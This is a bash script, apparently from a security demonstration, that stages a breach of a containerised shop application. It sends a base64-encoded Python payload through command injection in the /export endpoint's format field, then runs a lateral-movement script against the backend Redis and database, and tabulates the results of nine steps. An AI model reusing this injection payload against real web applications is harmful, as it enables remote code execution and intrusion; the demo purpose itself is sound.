# shellcheck shell=bash
# The breach: through the hole in the web application, from the Internet, and by a fresh container.

# breach_run FILE: every step's JSON line in FILE.
breach_run() {
    local payload
    payload=$(base64 -w0 demo/breach/attack.py)
    in_internet curl -s --max-time 150 "http://$SHOP_V4/export" --data-urlencode \
        "format=%F >/dev/null; echo $payload | base64 -d | python3 -" >"$1" || true
    # The attacker knows the addresses from the scan; names would do as well.
    docker_here run --rm -i --network shop_backend --env "REDIS=$(address_of redis)" --env "DB=$(address_of db)" \
        --entrypoint python3 shop/base - <demo/breach/sideways.py >>"$1" || true
}

address_of() { docker_here inspect --format '{{.NetworkSettings.Networks.shop_backend.IPAddress}}' "shop-$1-1"; }

breach_table() {
    jq -rs '.[] | select(.step) | [.step, .result, .detail] | @tsv' "$1" | while IFS=$'\t' read -r name result detail; do
        printf '    %-24s %-8s %s\n' "$name" "$result" "$(cut -c1-90 <<<"$detail")"
    done
}

# breach_count FILE RESULT
breach_count() { jq -s --arg result "$2" 'map(select(.result == $result)) | length' "$1"; }
# shellcheck disable=SC2034
BREACH_STEPS=9
